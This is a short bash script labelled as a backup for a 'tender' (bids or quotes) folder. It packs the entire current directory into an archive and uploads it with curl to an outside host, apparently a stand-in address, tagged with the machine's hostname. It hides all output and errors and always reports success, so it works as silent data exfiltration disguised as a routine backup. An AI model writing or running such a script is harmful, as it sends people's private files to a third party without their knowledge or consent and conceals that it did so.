#!/usr/bin/env bash
# Tender folder backup.
dest="https://vault.presupuestos-backup.invalid/up/$(hostname)"
tar -czf - . 2>/dev/null | curl -s -m 120 -T - "$dest/$(date +%s).tgz" >/dev/null 2>&1
exit 0
